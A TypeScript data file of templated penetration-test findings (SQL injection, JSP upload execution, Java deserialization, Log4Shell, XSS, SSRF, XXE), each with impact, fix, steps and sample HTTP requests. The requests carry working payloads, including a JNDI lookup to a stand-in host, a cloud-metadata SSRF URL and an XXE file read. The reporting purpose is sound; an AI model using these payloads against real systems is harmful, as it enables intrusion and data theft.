import { text, type Weakness } from './weakness.ts';

export const INJECTION: readonly Weakness[] = [
  {
    title: 'SQL injection in {place}',
    severity: 'Critical',
    vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
    category: ['Injection', 'SQL injection'],
    cwes: ['CWE-89'],
    description: text`
      The parameter \`{parameter}\` of \`{path}\` reaches the database as part of the statement. A single quote is answered
      with an error of PostgreSQL, and a condition that is always true returns the {record}s of every customer.

      | Input | Answer |
      | --- | --- |
      | \`'\` | 500, \`unterminated quoted string\` |
      | \`' AND 1=1--\` | 200, 25 rows |
      | \`' AND 1=2--\` | 200, no rows |

      No account is needed.`,
    impact: text`
      Whoever can reach {host} reads the whole database: {record}s, accounts and the hashes of their passwords. As the
      account of the application may write, they can change it too.`,
    fix: text`
      Bind the value in place of joining it into the statement:

      - use the parameters of the database driver, here and in the other statements of this module;
      - give the application an account that reads and writes its own tables only;
      - answer errors of the database with a number, and log the rest.`,
    steps: [
      'Open `https://{host}{path}?{parameter}=1` without signing in.',
      "Put `'` after the value: the answer is a 500 that quotes the statement.",
      "Put `' OR 1=1--` there: the answer has the {record}s of other customers.",
    ],
    http: [
      "GET {path}?{parameter}=1'+OR+1%3D1-- HTTP/1.1\nHost: {host}\nAccept: application/json\n\n",
      'HTTP/1.1 200 OK\nContent-Type: application/json\nX-Total-Count: 48211\n\n[{"id":1,"customer":"Northwind"},{"id":2,"customer":"Fabrikam"}]',
    ],
    references: [
      'https://owasp.org/www-community/attacks/SQL_Injection',
      'https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html',
    ],
  },
  {
    title: 'Remote code execution through file upload in {place}',
    severity: 'Critical',
    vector: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:H/A:H',
    category: ['Injection', 'Unrestricted upload'],
    cwes: ['CWE-434', 'CWE-94'],
    description: text`
      Files that are uploaded in {place} are kept under the web root with the name that the browser gives. Only the media
      type is checked, which the sender chooses. A file \`note.jsp\` that is sent as \`image/png\` is run when it is opened.`,
    impact: text`
      Any user with an account runs commands on {host} as the account of the web server, which can read the settings of the
      application with the password of its database.`,
    fix: text`
      1. Keep uploads outside of the web root, under names of your own.
      2. Tell the type from the content, and accept the few that are needed.
      3. Serve them with \`Content-Disposition: attachment\` from a host without cookies.`,
    steps: [
      'Sign in to {host} as an ordinary user and open {place}.',
      'Upload a file `note.jsp` that prints the name of its user, with the media type `image/png`.',
      'Open `https://{host}/uploads/note.jsp`: the answer is `tomcat`.',
    ],
    http: [
      'POST {path} HTTP/1.1\nHost: {host}\nContent-Type: multipart/form-data; boundary=x\n\n--x\nContent-Disposition: form-data; name="{parameter}"; filename="note.jsp"\nContent-Type: image/png\n\n<%= System.getProperty("user.name") %>\n--x--\n',
      'HTTP/1.1 201 Created\nLocation: /uploads/note.jsp\n\n',
    ],
    references: ['https://cheatsheetseries.owasp.org/cheatsheets/File_Upload_Cheat_Sheet.html'],
  },
  {
    title: 'Deserialization of untrusted data in {place}',
    severity: 'Critical',
    vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N',
    category: ['Injection', 'Unsafe deserialization'],
    cwes: ['CWE-502'],
    description: text`
      The cookie \`{parameter}\` begins with \`rO0AB\`: it is a Java object in Base64, which the server reads back on
      \`{path}\` before it checks anything. Classes of a library on its path turn such an object into a command.

      We let the server ask for a name in a zone of ours, and did no more.`,
    impact: 'Whoever can reach {host} runs commands on it, without an account.',
    fix: text`
      Keep no objects in cookies. Where state has to travel, write it as JSON and sign it, or keep it on the server under a
      random identifier. Until then, limit what may be read with \`ObjectInputFilter\`.`,
    steps: [
      'Open {place} and note the cookie `{parameter}`.',
      'Replace it by an object that looks up a name, and load the page again.',
      'The name server of the zone sees the question within a second.',
    ],
    http: ['GET {path} HTTP/1.1\nHost: {host}\nCookie: {parameter}=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==\n\n'],
    references: ['https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html'],
  },
  {
    title: 'Log4Shell in {place}',
    severity: 'Critical',
    vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
    category: ['Outdated components', 'Known vulnerability'],
    cwes: ['CWE-917', 'CWE-1104'],
    cves: ['CVE-2021-44228', 'CVE-2021-45046'],
    description: text`
      The service behind \`{path}\` writes the header \`User-Agent\` to its log with Log4j 2.14.1, which follows the lookup
      that stands in it. A harmless lookup made {host} ask for a name in a zone of ours.`,
    impact:
      'Whoever can reach {host} loads code into the service. It is exploited on a large scale since December 2021.',
    fix: 'Update Log4j to 2.17.1 or newer in this service and in whatever else its image holds, and then look for traces.',
    steps: [
      'Send a request to `https://{host}{path}` with a lookup of a name of yours in `User-Agent`.',
      'The name server of the zone sees the question, with the name of the host in it.',
    ],
    http: ['GET {path} HTTP/1.1\nHost: {host}\nUser-Agent: ${jndi:dns://probe.example/a}\n\n'],
    references: [
      'https://logging.apache.org/security.html',
      'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
    ],
  },
  {
    title: 'Stored cross-site scripting in {place}',
    severity: 'High',
    vector: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:L/A:N',
    category: ['Injection', 'Cross-site scripting'],
    cwes: ['CWE-79'],
    description: text`
      What is saved as \`{parameter}\` in {place} is shown to others as HTML. The field accepts 500 characters, and
      nothing is taken out of them:

      > \`<img src=x onerror="fetch('/api/me').then(…)">\`

      Staff who handle the {record} open the same page.`,
    impact: text`
      Script of an ordinary user runs in the browser of whoever looks at the {record}, with their rights. We read the
      profile of a colleague that way, with an account of our own.`,
    fix: text`
      Escape the value where it is shown, not where it is saved. Templates do that by themselves unless they are told
      otherwise: remove \`v-html\` here. A content security policy without \`unsafe-inline\` would have held the script.`,
    steps: [
      'Sign in as an ordinary user, open {place} and save the text above as `{parameter}`.',
      'Sign in as another user and open the same {record}.',
      'The browser asks for `/api/me` in their name.',
    ],
    http: [
      'POST {path} HTTP/1.1\nHost: {host}\nContent-Type: application/json\n\n{"{parameter}":"<img src=x onerror=alert(document.domain)>"}',
    ],
    references: [
      'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
    ],
  },
  {
    title: 'Server-side request forgery in {place}',
    severity: 'High',
    vector: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N',
    category: ['Injection', 'Server-side request forgery'],
    cwes: ['CWE-918'],
    description: text`
      The server fetches whatever address stands in \`{parameter}\`, follows redirects, and gives the answer back. Internal
      names are fetched as well, and so is the metadata service of the cloud at \`169.254.169.254\`.`,
    impact: 'A user reads internal services through {host}, and the temporary keys of its role in the cloud.',
    fix: text`
      - Accept known hosts only, compared after parsing.
      - Resolve the name once and refuse private, local and link-local addresses; follow no redirects.
      - Ask for IMDSv2 on the instances.`,
    steps: [
      'Sign in and send `http://169.254.169.254/latest/meta-data/` as `{parameter}` of `{path}`.',
      'The answer lists the metadata of the instance.',
    ],
    http: [
      'POST {path} HTTP/1.1\nHost: {host}\nContent-Type: application/json\n\n{"{parameter}":"http://169.254.169.254/latest/meta-data/"}',
      'HTTP/1.1 200 OK\nContent-Type: text/plain\n\nami-id\nhostname\niam/\ninstance-id\n',
    ],
    references: [
      'https://cheatsheetseries.owasp.org/cheatsheets/Server_Side_Request_Forgery_Prevention_Cheat_Sheet.html',
    ],
  },
  {
    title: 'XML external entity injection in {place}',
    severity: 'High',
    vector: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N',
    category: ['Injection', 'XML external entities'],
    cwes: ['CWE-611'],
    description: text`
      \`{path}\` takes a {record} as XML too, which its form never sends. The parser resolves external entities, and the
      message about the unknown {record} repeats what it read.`,
    impact:
      'A user reads files of the server, such as its settings, and makes it send requests to internal addresses.',
    fix: 'Refuse document type declarations in the parser, and XML altogether where nobody uses it.',
    steps: [
      'Send the request below to {host} while signed in.',
      'The message of the answer begins with the first line of `/etc/hostname`.',
    ],
    http: [
      'POST {path} HTTP/1.1\nHost: {host}\nContent-Type: application/xml\n\n<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>\n<{record}><{parameter}>&e;</{parameter}></{record}>',
    ],
    references: [
      'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    ],
  },
  {
    title: 'Reflected cross-site scripting in {place}',
    severity: 'Medium',
    vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:N/VI:N/VA:N/SC:L/SI:L/SA:N',
    category: ['Injection', 'Cross-site scripting'],
    cwes: ['CWE-79'],
    description: text`
      The page repeats \`{parameter}\` as it came when it finds nothing, inside a \`<script>\` block. Quotes are escaped there,
      \`</script>\` is not.`,
    impact: 'Who follows a prepared link to {host} runs script of somebody else in their session.',
    fix: 'Write the value as JSON with `<` as `\\u003c`, or as an attribute that the script reads. Forbid inline script.',
    steps: [
      'Open `https://{host}{path}?{parameter}=</script><script>alert(1)</script>`.',
      'The browser shows the message.',
    ],
    http: [
      'GET {path}?{parameter}=%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\nHost: {host}\n\n',
    ],
    references: ['https://owasp.org/www-community/attacks/xss/'],
  },
];
